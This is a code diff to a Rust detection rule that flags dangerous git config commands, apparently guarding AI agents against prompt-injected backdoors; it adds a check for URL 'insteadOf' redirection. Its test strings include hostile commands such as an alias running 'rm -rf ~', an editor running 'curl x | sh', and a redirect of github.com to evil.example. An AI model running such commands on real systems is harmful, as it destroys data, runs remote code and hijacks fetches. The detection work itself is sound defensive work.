@@ -33,7 +33,7 @@ code execution, which is how a prompt-injected agent plants a persistent backdoo
 
 ## Instead
 Run the command directly instead of through git configuration.",
-    matches: &["git config alias.st '!rm -rf ~'", "git config --global core.sshCommand 'ssh -i key'", "git -c core.fsmonitor='touch /tmp/x' status", "GIT_CONFIG_COUNT=1x git status", "git config core.pager 'less -R; sh x.sh'", "git config --global core.editor 'sh -c \"curl x | sh\"'", "git config --global core.editor 'vim -u /tmp/x.vim'", "git config --global core.pager 'delta --pager=/tmp/x'", "git config --global mergetool.meld.path /tmp/x", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name git status", "GIT_SSH_COMMAND=./helper git fetch", "GIT_SSH=./x git push origin main", "git -c core.sshCommand=./h clone example:repo", "git clone -c core.fsmonitor='touch x' https://example.com/r.git", "git clone --template=/tmp/t https://example.com/r.git", "git config -f .git/config core.fsmonitor 'touch x'"],
+    matches: &["git config alias.st '!rm -rf ~'", "git config --global core.sshCommand 'ssh -i key'", "git -c core.fsmonitor='touch /tmp/x' status", "GIT_CONFIG_COUNT=1x git status", "git config core.pager 'less -R; sh x.sh'", "git config --global core.editor 'sh -c \"curl x | sh\"'", "git config --global core.editor 'vim -u /tmp/x.vim'", "git config --global core.pager 'delta --pager=/tmp/x'", "git config --global mergetool.meld.path /tmp/x", "git config --global url.https://evil.example/.insteadOf https://github.com/", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name git status", "GIT_SSH_COMMAND=./helper git fetch", "GIT_SSH=./x git push origin main", "git -c core.sshCommand=./h clone example:repo", "git clone -c core.fsmonitor='touch x' https://example.com/r.git", "git clone --template=/tmp/t https://example.com/r.git", "git config -f .git/config core.fsmonitor 'touch x'"],
     not_matches: &["git config user.name 'A B'", "git config --get alias.st", "git -c user.name=x commit -m y", "git config alias.st status", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0='' git status", "GIT_CONFIG_COUNT=0 GIT_CONFIG_KEY_0=alias.nuke GIT_CONFIG_VALUE_0=reset git status", "git -c core.sshCommand=./helper status", "GIT_SSH_COMMAND='ssh -v' git log", "git clone -c http.sslVerify=true https://example.com/r.git", "git config core.pager 'less -R'", "git config --global core.editor 'code --wait'", "git config --global pager.diff delta", "git config --global interactive.diffFilter 'delta --color-only'", "git config --global core.pager 'diff-so-fancy | less --tabs=4 -RFX'", "git config --global credential.helper 'cache --timeout=3600'", "git config --global merge.tool meld", "git config core.fsmonitor true"],
     programs: Programs::Only(&util::GIT),
     on_invocation: Some(check),
@@ -150,6 +150,13 @@ fn check(inv: &Invocation, cx: &Cx<'_>) -> Option<Hit> {
     let ops: Vec<_> = ops.into_iter().skip_while(|f| f.as_known() == Some("set")).collect();
     let (key, value) = (ops.first()?, ops.get(1)?);
     let key = key.as_known()?.to_ascii_lowercase();
+    // `url.X.insteadOf Y`: every later fetch of Y goes to X instead.
+    if key.starts_with("url.") && (key.ends_with(".insteadof") || key.ends_with(".pushinsteadof")) {
+        return Some(
+            Hit::ask(format!("git config sets {key}: later fetches and pushes of `{}` go elsewhere", value.display()))
+                .hint("use the URL itself for this command"),
+        );
+    }
     if key == "core.hookspath" || !runs_command(&key) {
         return None;
     }
